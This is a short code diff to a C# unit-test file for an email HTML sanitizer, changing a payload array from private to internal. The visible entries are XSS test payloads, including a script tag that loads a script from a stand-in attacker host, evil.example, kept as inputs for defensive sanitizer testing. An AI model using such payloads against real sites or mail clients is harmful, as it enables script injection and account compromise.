@@ -5,7 +5,7 @@ namespace Omnichannel.Channels.Tests.Email;
 public class EmailHtmlSanitizerTests
 {
     /// <summary>Classic XSS and mail-specific payloads (OWASP cheat sheet, mutation XSS, tracking and phishing tricks).</summary>
-    private static readonly string[] Payloads =
+    internal static readonly string[] Payloads =
     [
         "<script>alert(1)</script>",
         "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
